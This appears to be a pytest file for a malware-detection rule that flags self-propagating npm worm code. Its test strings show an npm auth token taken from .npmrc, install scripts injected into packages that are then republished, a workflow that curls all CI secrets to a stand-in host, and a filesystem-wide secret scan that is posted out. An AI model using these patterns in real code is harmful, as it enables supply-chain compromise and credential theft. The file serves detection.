import pytest

from lazaretto.detect.rules.javascript.self_propagation import RULE


def test_publishes_with_an_install_script(look):
    source = (
        "const token = /_authToken=(.+)/.exec(read('.npmrc'));\npkg.scripts.postinstall = 'node bundle.js';\n"
        "require('child_process').execSync('npm publish');\n"
    )
    assert look(RULE, source) == [
        (2, "CRITICAL", "HIGH", "publishes other packages with an install script put into them")
    ]


@pytest.mark.parametrize(
    ("source", "grade"),
    [
        ("get('/-/v1/search?text=maintainer:' + who); spawn('npm', ['publish'], { env: { NPM_TOKEN } })", ("CRITICAL", "HIGH")),
        ("pkg.scripts['preinstall'] = 'node x.js'; exec('npm publish')", ("CRITICAL", "MEDIUM")),
        ("fs.writeFileSync('.github/workflows/a.yml', 'run: curl -d \"${{ toJSON(secrets) }}\" https://x.example.test')", ("HIGH", "HIGH")),
        ("require('child_process').execSync('trufflehog filesystem /'); post({ method: 'POST', body })", ("HIGH", "MEDIUM")),
    ],
)  # fmt: skip
def test_grades(look, source, grade):
    assert [fact[1:3] for fact in look(RULE, source)] == [grade]


@pytest.mark.parametrize(
    "source",
    [
        "pkg.version = next; fs.writeFileSync('package.json', JSON.stringify(pkg)); execSync('npm publish'); // .npmrc",
        "if (pkg.scripts.postinstall === 'x') warn(); execSync('npm publish')",
        "fs.writeFileSync('.github/workflows/ci.yml', template)",
        "const words = ['trufflehog', 'gitleaks']",
        "// npm publish",
    ],
)
def test_near_misses(look, source):
    assert look(RULE, source) == []


def test_the_words_of_a_bundled_package_manager_stand_apart(look):
    rest = "function f(a) { return a + 1; }\n" * 20_000
    parts = ("get(`${registry}/-/whoami`);\n", "run('npm publish');\n", "read('_authToken');\n")
    assert look(RULE, rest.join(parts), "lib/manager.js") == []
    together = look(RULE, rest + "".join(parts), "lib/manager.js")
    assert [fact[0] for fact in together] == [20_002]
